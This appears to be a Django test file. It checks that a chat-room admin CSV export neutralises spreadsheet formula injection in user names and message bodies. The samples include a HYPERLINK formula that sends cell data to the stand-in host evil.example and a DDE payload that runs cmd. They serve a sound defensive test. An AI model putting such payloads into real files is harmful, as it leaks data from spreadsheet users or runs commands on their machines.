import datetime as dt

from django.utils.translation import override

from history.models import Message
from tests.factories import RoomFactory, join, post

CHANGELIST = "/admin/rooms/room/"


def test_export_csv_neutralises_formulas_in_names_and_bodies(organiser, organiser_client):
    room = RoomFactory(owner=organiser, name="Export")
    with override("en"):  # the "joined" notice is in the language active when posted
        mallory = join(room, display_name="=HYPERLINK(1)").user
    post(room, mallory, '=HYPERLINK("http://evil.example/?"&A1,"click")')
    post(room, mallory, "+1+cmd|' /C calc'!A0")
    post(room, mallory, "-2")
    post(room, mallory, "@SUM(1)")
    post(room, mallory, "fine = text")
    stamp = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)  # 11:04:05 in Asia/Shanghai
    Message.objects.filter(room=room).update(created_at=stamp)

    response = organiser_client.post(
        CHANGELIST,
        {"action": "export_history", "_selected_action": [str(room.pk)]},
        headers={"accept-language": "en"},
    )
    assert response.status_code == 200
    code, at, who = room.code, "2026-01-02 11:04:05", "'=HYPERLINK(1)"
    assert (
        b"".join(response.streaming_content)
        == (
            "\ufeffroom,seq,time,kind,sender,message,hidden\r\n"
            f"{code},1,{at},system,,'=HYPERLINK(1) joined,\r\n"
            f'{code},2,{at},text,{who},"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\r\n'
            f"{code},3,{at},text,{who},'+1+cmd|' /C calc'!A0,\r\n"
            f"{code},4,{at},text,{who},'-2,\r\n"
            f"{code},5,{at},text,{who},'@SUM(1),\r\n"
            f"{code},6,{at},text,{who},fine = text,\r\n"
        ).encode()
    )
